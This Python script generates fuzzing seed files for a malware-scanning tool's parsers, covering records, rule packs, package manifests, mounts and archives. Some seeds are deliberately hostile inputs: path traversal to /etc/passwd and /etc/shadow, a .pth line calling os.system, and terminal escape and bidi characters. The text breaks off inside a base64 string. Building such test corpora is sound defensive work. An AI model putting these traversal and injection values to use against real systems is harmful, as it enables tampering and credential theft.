#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the seeds of the fuzz targets into corpus/ beside this file.

The same bytes in every run. Files named regression-* were found by fuzzing; they
are not made here, and stay.
"""

import base64
import hashlib
import io
import json
import lzma
import struct
import sys
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "forge"))
import apfs  # noqa: E402
import archives  # noqa: E402
import ext  # noqa: E402
import forms  # noqa: E402
import known  # noqa: E402
import xfs  # noqa: E402

CORPUS = Path(__file__).parent / "corpus"
SHA = "0123456789abcdef" * 4


def seed(what, name, data):
    if isinstance(data, str):
        data = data.encode()
    folder = CORPUS / what
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)


def block(data):
    return struct.pack("<I", len(data)) + data


def text(data):
    return block(data) + b"\0"


# --- wire ---

CONFIG, BATCH, READY, FATAL, RECORD, ACKS = range(1, 7)


def datagram(kind, sender, total, offset, chunk, fds=0):
    data = struct.pack("<HHII", kind, sender, total, offset) + chunk
    return struct.pack("<HB", len(data), fds) + data


def wire():
    config = struct.pack("<9QIII", 64 << 30, 512 << 20, 300, 64, 16, 10**6, 64 << 30, 1000, 16 << 30, 2, 9, 1)
    config += text(b"infected") + struct.pack("<II", 1, 2) + block(b"123456-") + block(SHA.encode() * 2)
    entry = struct.pack("<QIIQQQIIIIQQQ", 7, 1, 0, 2049, 77, 24, 0o100644, 0, 0, 1, 1, 2, 3)
    entry += text(b"/srv/a\xff") + text(b"root") + struct.pack("<IQII", 1, 5, 1, 3)
    plain = entry + struct.pack("<II", 0, 0)
    there = struct.pack("<IQQQ", 1, 100, 5, 6) + text(b"x.7z.002")
    parts = struct.pack("<IQQQ", 0, 0, 0, 0) + text(b"x.7z.001") + there + struct.pack("<IQQQ", 2, 0, 0, 0) + text(b"x.7z.003")
    lead = entry + struct.pack("<II", 1, 3) + parts
    follower = entry + struct.pack("<II", 2, 1) + there
    ack = struct.pack("<QIIQQQQ", 7, 7, 1, 24, 24, 3, 100) + text(SHA.encode()) + text(b"text/plain")
    ack += text(b"Etc/UTC")
    dist = struct.pack("<QIQ", 7, 1, 2) + text(b"CSV ASCII text") + text(b"text/csv") + struct.pack("<I", 2)
    dist += text(b"a/b.py") + struct.pack("<IQ", 1, 12) + bytes(range(32)) + text(b"c") + struct.pack("<IQ", 0, 2**64 - 1)
    seed("wire_body", "config", b"\0" + config)
    seed("wire_body", "entries", b"\1" + plain + plain)
    seed("wire_body", "parts", b"\1" + lead + follower + plain)
    seed("wire_body", "acks", b"\2" + ack + ack)
    seed("wire_body", "dist", b"\3" + dist + dist)
    image = struct.pack("<QI", 7, 1) + text(b"blobs/sha256/" + SHA.encode()) + text(b"")
    image += struct.pack("<I2Q", 2, 4, 2**64 - 1)
    seed("wire_body", "image-paths", b"\4" + image)
    image = struct.pack("<QI", 7, 5) + text(b"blobs/sha256/" + SHA.encode()) + text(b"") + struct.pack("<I", 0)
    image += block(struct.pack("<Q", 8) + block(b"usr/bin/b") + struct.pack("<Q", 4) + block(b"c"))
    seed("wire_body", "image-links", b"\4" + image)
    image = struct.pack("<QI", 7, 3) + text(b"") + text(b'{"size":1}') + struct.pack("<I", 0)
    seed("wire_body", "image-blob", b"\4" + image)
    body = b"x" * 40
    seed("wire", "whole", datagram(CONFIG, 0, len(config), 0, config, 3))
    seed("wire", "chunks", datagram(RECORD, 1, 40, 0, body[:16], 1) + datagram(RECORD, 1, 40, 16, body[16:]))
    seed("wire", "two-senders",
         datagram(RECORD, 1, 40, 0, body[:16]) + datagram(ACKS, 2, 8, 0, body[:8], 2)
         + datagram(RECORD, 1, 40, 16, body[16:]) + datagram(READY, 0, 0, 0, b""))
    seed("wire", "never-whole", datagram(BATCH, 64, 4000, 0, body, 15) + datagram(FATAL, 3, 9, 0, b"\2"))


# --- records ---

def finding(**changes):
    record = {
        "type": "finding", "kind": "yara", "severity": "high", "rule_severity": "critical",
        "severity_reason": "prose", "family": "canary",
        "rule": {"name": "Canary", "namespace": "test.canary", "tags": ["pypi"],
                 "meta": {"title": "A canary", "score": 80, "shipped": False}},
        "match_count": 2,
        "matches": [
            {"pattern": "$a", "offset": 18, "length": 6, "data": "canary", "encoding": "text"},
            {"pattern": "$b", "offset": 0, "length": 300, "data": "AAEC", "encoding": "base64"}],
        "object": {"sha256": SHA, "size": 24, "type": "ASCII text", "mime": "text/plain"},
        "chain": [],
    }
    record.update(changes)
    return json.dumps(record, ensure_ascii=False)


def records():
    gap = {"type": "gap", "reason": "rule_error", "detail": "error 31",
           "rule": {"name": "Canary", "namespace": "test.canary"}, "chain": []}
    seed("record", "finding", "srv/app/canary.pth\n" + finding())
    seed("record", "finding-bare", "a\n" + finding(family=None, matches=[], severity="info"))
    seed("record", "finding-hostile", b"srv/a!b%\x1b[2J\xff\\c\n"
         + finding(family="\u202e\x7f\u2028", match_count=9).encode())
    package = {"ecosystem": "npm", "name": "@scope/bad", "version": "2.0.1"}
    seed("record", "finding-package", "a\n" + finding(kind="package", package=package))
    parcel = {"form": "wheel", "name": "bad", "version": "1.2", "known_by": "content"}
    seed("record", "finding-parcel", "c/_cacache/content-v2/sha512/01/23/" + SHA + "\n"
         + finding(chain=[{"kind": "zip", "name": "a/_cacache/tmp/x", "mode": 420, "package": parcel}]))
    seed("record", "gap", "srv/b\n" + json.dumps(gap))
    del gap["rule"]
    gap["reason"] = "timeout"
    seed("record", "gap-bare", "srv/b\n" + json.dumps(gap))
    seed("record", "escapes", "srv/b\n" + json.dumps(dict(gap, detail="\u0001\ud83d\ude00\u00e9")))
    account = {
        "ruleset": {"digest": SHA, "rules": 40, "files": 9,
                    "disabled": [{"namespace": "a", "rule": "b", "why": "c"}]},
        "prefilter": {"on": True, "reason": None, "patterns": 30, "proofs": 900,
                      "unfilterable": [{"rule": "r", "namespace": "n", "pattern": "$p"}]},
        "sandbox": {"no_new_privs": True, "landlock_abi": 2, "seccomp": True, "rlimits": True,
                    "missing": ["Landlock ABI 3"]},
        "libraries": {"libyara": "4.2.3", "libmagic": "5.44", "hyperscan": None, "openssl": "3.0.11"},
    }
    seed("account", "whole", json.dumps(account))
    account["ruleset"]["disabled"] = []
    account["prefilter"].update(on=False, reason="no Hyperscan\u202e", unfilterable=[])
    account["sandbox"]["missing"] = []
    seed("account", "bare", json.dumps(account))


# --- rules ---

RULE = 'rule a { strings: $a = "x//y" $b = /a"\\/b/ condition: $a and filename == "x" }\n'
INCLUDES = ('/* include "no.yar" */ // include "no.yar"\ninclude "sub/yes.yar"\n'
            'include\t"../up.yar"\nrule a { meta: m = "include \\"no.yar\\"" condition: true }\n')


def rule_file(name, body, relative, root=0, builtin=0, include_only=0):
    return (block(name) + block(name) + block(body) + block(relative)
            + struct.pack("<BBQ", builtin, include_only, root))


def pack(*files):
    return b"SWRULES1" + struct.pack("<I", len(files)) + b"".join(files) + block(SHA.encode())


def rules():
    seed("rule_lexer", "rule", RULE)
    seed("rule_lexer", "includes", INCLUDES)
    seed("rule_lexer", "division", "rule a { condition: 4 \\ 2 == 2 and filename contains \"a\" }")
    seed("rule_lexer", "broken", 'rule { "open\n/open\n/* open include "x')
    seed("rule_lexer", "hex", "rule a { strings: $filename = { 41 // filename\n 42 /* x */ } condition: $filename }")
    seed("rule_lexer", "regex", 'rule a { strings: $a = /[/]"/ $b = "y" condition: any of them and filename matches /"/ }')
    seed("rulepack", "empty", pack())
    seed("rulepack", "two", pack(rule_file(b"a.yar", INCLUDES.encode(), b"d/a.yar"),
                                 rule_file(b"b.inc", RULE.encode(), b"d/sub/yes.yar", include_only=1)))
    seed("rulepack", "roots", pack(rule_file(b"builtin:a", b'include "x.yar"', b"a", builtin=1),
                                   rule_file(b"x.yar", b"", b"x.yar", root=1)))
    seed("prefilter", "unchanged", b"")
    seed("prefilter", "cut", struct.pack("<BH", 1, 9))
    seed("prefilter", "digest", struct.pack("<BHIBB", 0, 0, 20, 0, 7))
    for place in (0, 4, 8, 12, 16, 40, 300, 3000):
        seed("prefilter", f"changed-{place}", struct.pack("<BHIBB", 1, 0, place, 3, 129))


# --- rule packs (docs/rule-packs.md) ---

def packed_file(name, namespace, body, kind=0, flags=0, root=0):
    return struct.pack("<BBI", kind, flags, root) + block(name) + block(namespace) + block(body)


def pack_file(*files, signatures=(), version=1):
    body = b"".join(files)
    covered = b"\x89SWPACK\n" + struct.pack("<IIQ", version, len(files), 24 + len(body)) + body
    return (covered + hashlib.sha256(covered).digest() + struct.pack("<I", len(signatures))
            + b"".join(signatures))


def packs():
    one = packed_file(b"a.yar", b"a", RULE.encode())
    seed("pack", "one", pack_file(one))
    seed("pack", "signed", pack_file(one, signatures=(b"\x11" * 96, b"\x22" * 96)))
    seed("pack", "roots", pack_file(
        packed_file(b"a.yar", b"a", INCLUDES.encode()),
        packed_file(b"sub/yes.yar", b"sub/yes", b"", flags=1),
        packed_file(b"a.yar", b"a~2", RULE.encode(), root=1),
        packed_file(b"litellm.json", b"litellm", b"{}", kind=1, root=2)))
    seed("pack", "names", pack_file(*(packed_file(name, b"n%d" % i, b"")
         for i, name in enumerate(sorted((b"..a", b".a/b..", b"a/b/c", "\u00e9 x".encode()))))))
    seed("pack", "escape", pack_file(packed_file(b"../a.yar", b"a", b"")))
    seed("pack", "version", pack_file(one, version=2))


# --- package files ---

COMMIT = SHA[:40]
PACKAGES = {
    "metadata": ("a.dist-info/METADATA", "Name: litellm\nVersion: 1.82.8\nRequires-Dist: x (==1.0) ; y\n\nName: z\n"),
    "direct_url": ("a-b-1.dist-info/direct_url.json", '{"vcs_info": {"commit_id": "%s"}}' % COMMIT),
    "wheel": ("a_b-1.0rc1-1-py3-none-any.whl", ""),
    "sdist": ("a-b-2.0.post1.tar.gz", ""),
    "requirements": ("requirements.txt", "a[x]==1.0 ; y # z\n-e git+https://h/b.git@%s#egg=b\nc @ https://h/c-1.0.tar.gz\n"
                     "d>=1,===2\n./e-1-py3-none-any.whl\n" % COMMIT),
    "utf16": ("requirements.txt", "\ufeffa==1\r\nb==2\r\n".encode("utf-16-le")),
    "poetry": ("poetry.lock", '[[package]]\nname = "a"\nversion = "1"\ndescription = """x\n"""\n[package.source]\n'
               'resolved_reference = "%s"\n[[package]]\n"name" = \'b\'\nversion = "2"\n' % COMMIT),
    "uv": ("uv.lock", '[[package]]\nname = "a"\nversion = "1"\nsource = { git = "https://h/a#%s" }\n' % COMMIT),
    "pylock": ("pylock.toml", '[[packages]]\nname = "a"\nvcs = { commit-id = "%s" }\n' % COMMIT),
    "pipfile_lock": ("Pipfile.lock", '{"_meta": {}, "default": {"a": {"version": "==1", "ref": "%s"}}}' % COMMIT),
    "pyproject": ("pyproject.toml", '[project]\ndependencies = ["a==1", \'b==2\'] # c\n[tool.poetry.dependencies]\n'
                  'c = "1.0"\nd = {version = "==2", rev = "%s"}\n' % COMMIT),
    "conda": ("environment.yml", "dependencies:\n  - pip:\n    - a==1\n    - 'b==2' # c\n"),
    "package_json": ("node_modules/@s/a/package.json", '{"n\\u0061me": "@s\\/a", "version": "1.0.0", "dependencies": '
                     '{"b": "=2.0.0", "c": "npm:@s/d@1.0.0", "e": "o/e#%s"}, "overrides": {"f": {".": "1.0.0"}}}' % COMMIT),
    "extension": ("package.json", '{"name": "a", "publisher": "p", "version": "1.0.0", "engines": {"vscode": "*"}}'),
    "npm_index": ("_cacache/index-v5/aa/bb/" + SHA[:60], "%s\t%s\n" % (COMMIT, json.dumps({"key": "h/a/-/a-1.0.0.tgz"}))),
    "deb_control": ("x.deb/control.tar/control", "Package: a\nVersion: 1.2\n"),
    "rpm_header": ("x.rpm/%header", "Name: a\nVersion: 1:1.2-3\n"),
    "lock_3": ("package-lock.json", '{"packages": {"node_modules/x/node_modules/@s/a": {"version": "1.0.0", "name": "b", '
               '"resolved": "git+ssh://h/a#%s"}}}' % COMMIT),
    "lock_1": ("npm-shrinkwrap.json", '{"dependencies": {"a": {"version": "npm:b@1.0.0", "dependencies": {"c": {"version": "2.0.0"}}}}}'),
    "bun": ("bun.lock", '{ // x\n"packages": {"a": ["@s/a@1.0.0", "", {}, ""], /* y */ }, }'),
    "yarn_1": ("yarn.lock", '"@s/a@^1", "@s/a@^2":\n  version "1.0.0"\n\nb@npm:c@1:\n  version "1.0.0"\n  resolved "git+x#%s"\n' % COMMIT),
    "yarn_2": ("yarn.lock", '"@s/a@npm:^1, @s/a@npm:^2":\n  version: 1.0.0\n  resolution: "@s/a@npm:1.0.0"\n'),
    "pnpm_5": ("pnpm-lock.yaml", "lockfileVersion: 5.4\npackages:\n  /@s/a/1.0.0_b@1.0.0:\n    dev: true\n  h.x/c/1.0.0:\n    dev: true\n"),
    "pnpm_9": ("pnpm-lock.yaml", "lockfileVersion: '9.0'\npackages:\n  '@s/a@1.0.0(b@1.0.0)':\n    name: c\n    version: 1.0.0\n"),
    "extensions": ("extensions.json", '[{"identifier": {"id": "p.a"}, "version": "1.0.0"}]'),
    "vsix": ("p.a-b-1.0.0@linux-x64.vsix", ""),
    "workflow": (".github/workflows/a.yml", "jobs:\n  a:\n    container: b/c:1\n    steps:\n      - uses: o/r/p@v1 # x\n"
                 "      - {uses: 'o/r@%s', with: {a: [b]}}\n      - run: |\n          uses: no/no@v1\n"
                 "      - uses: docker://a@sha256:%s\n" % (COMMIT, SHA)),
    "compose": ("compose.yaml", "services:\n  a: &x\n    image: !!str h:5000/a:1\n  b: {image: \"b\"}\n"),
    "gitlab": (".gitlab-ci.yml", "image:\n  name: a:1\nservices:\n- b:2\n- name: c:3\n"),
    "manifest_yaml": ("k.yaml", "apiVersion: v1\nspec:\n- image: a/b:1\n---\nimage: c\n"),
    "values": ("values.yaml", "image:\n  registry: h.x\n  repository: a/b\n  tag: 1\nx: 1\n"),
    "dockerfile": ("Dockerfile", "ARG V=1\nFROM --platform=x a:${V} AS b\nFROM c:${W:-2}\nCOPY --from=b /x /x\n"
                   "RUN --mount=type=bind,from=d:1,target=/x \\\n FROM no\n"),
    "repositories": ("repositories.json", '{"Repositories": {"a": {"a:1": "x", "a@sha256:%s": "x"}}}' % SHA),
    "docker_archive": ("manifest.json", '[{"RepoTags": ["a:1", "h:5/b:2"]}]'),
    "oci_index": ("index.json", '{"manifests": [{"digest": "sha256:%s", "annotations": {"org.opencontainers.image.ref.name": "a/b:1", '
                  '"io.containerd.image.name": "h/a:1"}}]}' % SHA),
    "storage": ("overlay-images/images.json", '[{"digest": "sha256:%s", "names": ["h.x/a:1"]}]' % SHA),
    "devcontainer": ("devcontainer.json", '// x\n{"image": "a:1", /* y */ }'),
    "blob": ("blobs/sha256/" + SHA, ""),
    "dpkg": ("dpkg/status", "Package: a\nVersion: 1:2-3\n\nPackage: b\nVersion: 1\n"),
    "apk": ("apk/db/installed", "P:a\nV:1-r0\n\n"),
    "tools": (".tool-versions", "a 1.0 v2.0 # x\n"),
}


def packages():
    for name, (path, data) in PACKAGES.items():
        seed("package", name, path.encode() + b"\n" + (data if isinstance(data, bytes) else data.encode()))


# --- RECORDs of Python distributions ---

EMPTY = "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"
RECORDS = {
    "wheel": f"d/__init__.py,{EMPTY},0\nd-1.0.dist-info/METADATA,{EMPTY},12\nd-1.0.dist-info/RECORD,,\n",
    "quoted": f'"d/a,b.py",{EMPTY},0\r\n"d/""q"".py",,\r\n"d/two\nlines",,3\r\n',
    "hashes": f"a,sha512=AAAA,1\nb,md5=AAAA,1\nc,sha256=short,1\nd,SHA256={EMPTY[7:]}=,\ne,sha256={EMPTY[8:]},1\n",
    "outside": f"../../../bin/x,{EMPTY},1\n/etc/passwd,,\n../../etc/shadow,,\n",
    "odd": '\ufeffa,,,\n\n"open,,\n',
    "pth": "import sys; sys.__plen = len(sys.path)\n./a.egg\nimport os; os.system('x')\n",
    "path": "/usr/lib/python3/dist-packages/d-1.0.dist-info/RECORD",
}


def steps(*rows):
    return b"".join(struct.pack("<BB", kind, content) + b"".join(part.encode() + b"\n" for part in parts)
                    for kind, content, reports, *parts in rows)


def distributions():
    for name, data in RECORDS.items():
        seed("dist_record", name, data)
    wheel, site = "d-1.dist-info/RECORD", "/v/site-packages/"
    seed("dist_check", "wheel", b"\3" + steps(
        (8, 1, "d/a.py"), (10, 1, "d/a.py", wheel), (8, 2, "d/b.py"), (10, 1, "d/b.py", wheel), (10, 1, "d/gone.py", wheel),
        (24, 1, "d.pth"), (8, 1, "d/more.py"), (10, 1, "../../etc/passwd", wheel), (10, 5, "d/a.py", wheel)))
    one, two = site + "a-1.dist-info/RECORD", site + "b-1.dist-info/RECORD"
    seed("dist_check", "installed", b"\2" + steps(
        (8, 1, site + "ns/a/x.py"), (10, 1, "ns/a/x.py", one), (8, 2, site + "ns/b/x.py"), (10, 2, "ns/b/x.py", two),
        (8, 1, site + "ns/c/x.py"), (24, 1, site + "x.pth"), (8, 1, site + "ns/a/evil.py"), (10, 1, "ns/a/x.py", two),
        (10, 1, "../../bin/x", one), (1, 0, "", two)))
    seed("dist_check", "little", b"\7" + steps(*((10, i, f"d/{i:03}.py", wheel) for i in range(200))))


# --- the supervisor's files ---

MOUNTS = """\
22 28 0:20 / /sys rw,nosuid shared:7 - sysfs sysfs rw
28 1 8:1 / / rw,relatime shared:1 - ext4 /dev/sda1 rw,errors=remount-ro
30 28 0:25 / /run/my\\040dir rw shared:3 master:2 - tmpfs tmpfs rw
40 28 0:44 /@home /home rw - btrfs /dev/sdb1 rw,subvolid=257,subvol=/@home
41 40 0:45 / /home/net rw - nfs4 server:/x rw
42 28 8:1 /etc /mnt/etc rw - ext4 /dev/sda1 rw
43 28 0:50 / /mnt rw - overlay overlay rw
44 43 0:51 / /mnt/over rw - tmpfs tmpfs rw
45 44 0:52 / /mnt/over rw - fuse.sshfs x:/ rw
46 28 0:53 / /gone//deleted rw - tmpfs tmpfs rw
"""


def files():
    seed("mounts", "many", MOUNTS)
    seed("mounts", "root", MOUNTS.splitlines()[1])
    seed("mounts", "loop", "1 2 0:1 / /a rw - tmpfs t rw\n2 1 0:2 / /a/b rw - tmpfs t rw\n3 3 0:3 / / rw - ext4 x rw\n")
    seed("mounts", "odd", "1 0 0:1 / /\\000\\057\\777 rw - x\n9 9 9:9 /\n\n- - -\n5 1 0:7 / // rw - proc p\n")
    seed("config", "plain", "# comment\nstrict\nmemory = 1G\nexclude = *#x = y\n exclude=last \n\nthreads = 2\n")
    seed("config", "outputs", "output = json=/tmp/none\nrules = /etc/rules\nfail-on = low\nno-one-file-system\n")
    seed("config", "limits", "max-file-size = 10 MiB\nmax-time = 5m\nmax-matches = 9\nsandbox = require\nprogress=never\ncolor = always\n")
    seed("config", "wrong", "strict = yes\n")
    seed("config", "nul", b"strict\0types\n")
    seed("config", "switches", "types\nallow-gaps\nno-builtin-rules\nno-prefilter\nfail-on = never\none-file-system\r\n")
    seed("exclude", "name", "srv/app/node_modules\n*.log\nnode_modules/\n[a-m]*\n")
    seed("exclude", "path", "var/cache/apt/x\n/var/cache/apt*\ncache/apt/*\n\\/var\n[!v]?r/\n")
    seed("exclude", "odd", b"a[b\\c\xff\n[\n\\\n[[:alpha:]]\n*\xff\n**/**\n")


# --- reports ---

def reports():
    start = {"type": "sweep_start", "schema": "1.0", "options": [], "targets": ["/a"], "ruleset": {}}
    root = {"type": "root", "target": "/a", "path": "/a"}
    finding = {"type": "finding", "id": "0" * 32, "severity": "high", "rule": {"name": "r", "namespace": "n"},
               "object": {"path": "/a/b|c", "size": 3, "inode": "18446744073709551615", "uid": 1, "mode": "4755",
                          "mtime": "2023-11-14T22:13:20.000000001Z", "deleted": True},
               "locator": "/a/b|c!d%0A", "chain": [{"kind": "file", "path": "/a/b|c"},
                                                  {"kind": "tar", "name": "d", "mode": "0644",
                                                   "mtime": "1969-12-31T23:59:59.999999999Z"}]}
    gap = {"type": "gap", "reason": "timeout", "object": {}, "locator": "/a/x", "chain": []}
    end = {"type": "sweep_end", "verdict": "findings", "exit_code": 1, "findings": {"high": 1}, "gaps": {"timeout": 1},
           "incidents": {}, "engine_deaths": 0}
    rows = [json.dumps(record, separators=(",", ":")) for record in (start, root, finding, gap, end)]

    def sealed(text):
        digest = hashlib.sha256(text.encode()).hexdigest()
        return f'{text},"report":{{"bytes":{len(text)},"sha256":"{digest}"}}}}\n'

    seed("report", "jsonl", sealed("\n".join(rows)[:-1]))
    seed("report", "json", sealed('{"schema":"1.0","records":[\n' + ",\n".join(rows)[:-1]) + "]}\n")
    seed("report", "unsealed", "\n".join(rows) + "\n")
    seed("report", "cut", "\n".join(rows)[:-40])
    seed("report", "other", "[]\n")


# --- bytes ---

def content():
    number = struct.pack("<Q", 1700000000000000001)
    seed("text", "plain", number + b"1023.9 KiB 12GiB")
    seed("text", "size", struct.pack("<Q", 1073741823) + b"512 KiB")
    seed("text", "seconds", struct.pack("<q", -1) + b"90m")
    seed("text", "number", struct.pack("<Q", 2**64 - 1) + b"18446744073709551615")
    seed("text", "hostile", struct.pack("<q", -2**63) + b"a!b%\\\x1b[2J\xff\xe2\x80\xae\xc2\x85\xed\xa0\x80\xf4\x90\x80\x80")
    seed("text", "words", struct.pack("<d", 3599.5) + b"exclude" + b"exlcude")
    seed("context", "zone", b"\1Etc/UTC\n")
    seed("context", "lang", b'\2# set\nexport LANG="de_DE.UTF-8"; x\nLANGUAGE=a:b\n')
    seed("base64", "text", "AAECAwQ=")
    seed("base64", "pads", "QQ==")
    seed("base64", "stray", "QR==")
    seed("base64", "bytes", bytes(range(0, 256, 5)))
    wide = "wscript 'text' \u00e4 \u20ac \U0001f980"
    seed("utf16", "little", b"\0" + wide.encode("utf-16-le"))
    seed("utf16", "big", b"\3" + wide.encode("utf-16-be"))
    seed("utf16", "marked", b"\1" + wide.encode("utf-16"))
    seed("utf16", "odd", b"\2" + wide.encode("utf-16-le") + b"!")
    seed("utf16", "halves", b"\0" + bytes.fromhex("00d8 00d8 00dc 00dc 4100 d800 dc00 00d841"))
    for name, place, data in (("elf", 0, b"\x7fELF\2\1"), ("zip", 0, b"PK\3\4\x14\0\6\0"), ("tar", 257, b"ustar\0"),
                              ("iso", 32769, b"CD001"), ("script", 0, b"#!/bin/sh\n"), ("none", 9, b"hello")):
        seed("signature", name, struct.pack("<HH", place, 3) + data)


SCANNED = {
    "none": b"nothing to see here\n",
    "text": b"a canary and a loader; sWEEP; whole. wholes\n",
    "wide": "wider foobar wider".encode("utf-16-le"),
    "xored": bytes(c ^ 0x5A for c in b"xor-key xor-key"),
    "based": b"ZW5jb2RlZC10ZXh0 VuY29kZWQtdGV4d lbmNvZGVkLXRleH",
    "hex": b"\x7fE\x00F\x01\xf1 GCC: (xG .tex........dat.tex" + b"-" * 90 + b".dat",
    "regex": b"#! libabc.so.1 libxyz.so.22 htt://x.y/z?q foobaz Foo\n",
    "elf": b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
           + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 200, 200, 4096) + b"\0GNU\0GNU",
    "mz": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(40) + b"alloc free open",
    "counts": b"then then then alloc open zqxjkv",
}


def scan():
    for name, data in SCANNED.items():
        seed("scan", name, struct.pack("<BH", 0, 0) + data)
    for shape in (*range(1, 32), 0xe8, 0xed, 0xea, 0xef, 0xf4):
        data = SCANNED[sorted(SCANNED)[shape % len(SCANNED)]]
        seed("scan", f"shape-{shape:02}", struct.pack("<BH", shape, 4090) + data)


# --- containers ---

# The order of fuzz_archive.c.
SOURCES = ("tar cpio ar rpm lzh warc zip zip-stream 7z rar rar5 cab iso xar bz2 xz lzma lz zst lz4 Z uu appended behind "
           "unread").split()
# What Python does not write, by the usual programs: "hello, hello, hello" in a file "a".
MADE = {
    "7z": (
        "N3q8ryccAAS8gx/WFgAAAAAAAABKAAAAAAAAAP0w+VPgABMADl0ANBlJ7o3vjIcx9S9kAAAAAQQGAAEJFgAHCwEAASEhAQAMFAAICgHn"
        "Qm5SAAAFARkMAAAAAAAAAAAAAAAAEQUAYQAAABQKAQCUmlp6NXrdARUGAQAggKSBAAA="
    ),
    "xar": (
        "eGFyIQAcAAEAAAAAAAABmgAAAAAAAANhAAAAAXicfVNNc4QgDL33VzjeLR+iKx2W3voL2ktvKaDLVMVRdmfbX19AbafTj1NeXh4hJEHc"
        "X4c+u5h5sW485uQW55kZldN27I750+ND0eT38kZcYZY3mfBOBZMJNRvw4UTh7WAkxbQuCCkofcTlXVXflVyg75J06GTU63IessW/9eaY"
        "LycgeYxkwrXtYrzEAm0osYt9j8kFSiCmQHuO5LW2N5nVoewtzQjhKhAo2cT4t8nIqBMowUTa0WkjCSYcc14KtPoppM3FKjM6WVeYMoE+"
        "/RQdog7XLASGzyNnq2Ph0az+YmY5O+cDF2Eiu1XU7aJududpU6040eqvfj6Hp++NDHX8Ixu+ZPCPDL5kGjwklInejJ0/SdIItMGV36ZC"
        "vw/olwkFbl+ffcwwTb1VaRfQteje7ZSjTQqzOtmL0cXvq0FrzRqtmeE1bRktFeMlwWVVlVXTYta0pK5pRcIEfyTaa7n6GZT/8wajsar4"
        "4QUzAA6NwljXnEMJYA4NpppjShk/hAf+zLQ2D+3dEyiuWfwkKP0SgdKf+QAmhv0nJ7aA2zDJCbP1Y1BLmRvv04s0Yq54nMtIzcnJ11HI"
        "QKK4AEsHBt94nH1TTXOEIAy991c43i0foisdlgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
